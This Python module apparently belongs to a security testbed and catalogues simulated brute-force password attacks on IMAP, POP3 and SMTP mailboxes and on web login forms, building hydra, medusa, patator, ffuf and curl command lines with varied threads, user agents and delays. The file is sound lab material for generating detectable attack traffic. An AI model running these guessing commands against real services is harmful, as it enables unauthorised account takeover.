"""Guessing of passwords of mailboxes and web forms."""

from testbed.attacks.guessing import BRUTE, each_guess, hydra, medusa, patator, server
from testbed.attacks.material import ANYWHERE, accounts, maybe, passwords, pause, user_agent, words
from testbed.catalogue import Assault, attack


@attack(
    "brute_mail", technique=BRUTE, tool="hydra", origins=ANYWHERE, needs=("mailboxes",), packages=("hydra",), seconds=35
)
def hydra_mail(c):
    kind, port = c.choose(("imap", 143), ("pop3", 110), ("imap", 993), ("pop3", 995))
    target = f"{server(c, 'mailboxes')}:{port}"
    return Assault(hydra(c, kind, target, "-S" if port > 900 else ""), variant=f"{kind} {port}")


@attack(
    "brute_mail", technique=BRUTE, tool="hydra smtp", origins=ANYWHERE, needs=("smtp",), packages=("hydra",), seconds=35
)
def hydra_smtp(c):
    return Assault(hydra(c, "smtp", f"{server(c, 'smtp')}/LOGIN", most=12))


@attack(
    "brute_mail",
    technique=BRUTE,
    tool="medusa",
    origins=ANYWHERE,
    needs=("mailboxes",),
    packages=("medusa",),
    seconds=35,
)
def medusa_mail(c):
    return Assault(medusa(c, "pop3", server(c, "mailboxes")))


@attack(
    "brute_mail",
    technique=BRUTE,
    tool="patator",
    origins=ANYWHERE,
    needs=("mailboxes",),
    packages=("patator",),
    seconds=35,
)
def patator_mail(c):
    module, ignore = c.choose(
        ("imap_login", "fgrep='Authentication failed'"), ("pop_login", "fgrep='Authentication failed'")
    )
    return Assault(patator(c, module, f"host={server(c, 'mailboxes')}", ignore), variant=module)


@attack(
    "brute_mail", technique=BRUTE, tool="curl", origins=ANYWHERE, needs=("mailboxes",), packages=("curl",), seconds=35
)
def curl_mail(c):
    kind = c.choose("imap", "imaps", "pop3", "pop3s")
    return Assault(
        each_guess(
            c,
            f'curl -sk -m 8 -u "$user:$password" {kind}://{server(c, "mailboxes")}/',
            4,
            12,
            pause(c.between(0.0, 0.6)),
        ),
        variant=kind,
    )


def form(c) -> str:
    return f"{c.conventions.shop}/login"


@attack(
    "brute_http",
    technique=BRUTE,
    tool="hydra form",
    origins=ANYWHERE,
    needs=("web", "shop"),
    packages=("hydra",),
    seconds=30,
)
def hydra_form(c):
    scheme, host, port = c.choose(("http", "web", 80), ("https", "web", 443), ("http", "shop", 8080))
    agent = maybe(c, 0.5, f":H=User-Agent\\: {user_agent(c).split(' (')[0]}")
    fields = f"{form(c)}:user=^USER^&pass=^PASS^{agent}:F=Login failed"
    return Assault(
        words(
            "hydra -I -q",
            f"-t {c.between(1, 8)} -s {port}",
            f"-L {accounts(c, c.between(2, 5))}",
            f"-P {passwords(c, c.between(12, 24), c.chance(0.3))} {server(c, host)}",
            f"{scheme}-post-form '{fields}'",
        ),
        variant=f"{scheme} {port}",
    )


@attack(
    "brute_http", technique=BRUTE, tool="hydra basic", origins=ANYWHERE, needs=("web",), packages=("hydra",), seconds=30
)
def hydra_basic(c):
    return Assault(hydra(c, c.choose("http-get", "https-get"), f"{server(c, 'web')}/private/"))


@attack(
    "brute_http", technique=BRUTE, tool="medusa", origins=ANYWHERE, needs=("web",), packages=("medusa",), seconds=30
)
def medusa_basic(c):
    return Assault(medusa(c, "http", server(c, "web"), "-m DIR:/private/"))


@attack(
    "brute_http",
    technique=BRUTE,
    tool="patator",
    origins=ANYWHERE,
    needs=("web", "shop"),
    packages=("patator",),
    seconds=30,
)
def patator_form(c):
    target = server(c, "web")
    return Assault(
        words(
            f"patator http_fuzz resolve=site.test:{target} url=http://{target}{form(c)} method=POST",
            f"body='user={c.user().name}&pass=FILE0' header='User-Agent: {user_agent(c)}'",
            f"0={passwords(c, c.between(25, 50))} -t {c.between(1, 6)} -x ignore:fgrep=failed",
        )
    )


@attack(
    "brute_http", technique=BRUTE, tool="ffuf", origins=ANYWHERE, needs=("web", "shop"), packages=("ffuf",), seconds=30
)
def ffuf_form(c):
    return Assault(
        words(
            "ffuf -s -k -X POST",
            f"-t {c.between(1, 10)}",
            maybe(c, 0.5, f"-p {c.between(0.1, 0.4)}"),
            f"-w {accounts(c, c.between(2, 4))}:NAME -w {passwords(c, c.between(15, 30))}:WORD",
            "-H 'Content-Type: application/x-www-form-urlencoded'",
            f"-H 'User-Agent: {user_agent(c)}'",
            f"-d 'user=NAME&pass=WORD' -u {c.choose('http', 'https')}://{server(c, 'web')}{form(c)}",
            "-fr 'Login failed'",
        )
    )


@attack(
    "brute_http", technique=BRUTE, tool="curl", origins=ANYWHERE, needs=("web", "shop"), packages=("curl",), seconds=30
)
def curl_form(c):
    url = f"{c.choose('http', 'https')}://{server(c, 'web')}"
    body = c.choose(
        f'curl -sk -m 8 -A "{user_agent(c)}" -d "user=$user&pass=$password" {url}{form(c)} -o /dev/null',
        f'curl -sk -m 8 -A "{user_agent(c)}" -u "$user:$password" {url}/private/ -o /dev/null',
    )
    return Assault(each_guess(c, body, 4, 24, pause(c.between(0.05, 0.8))))
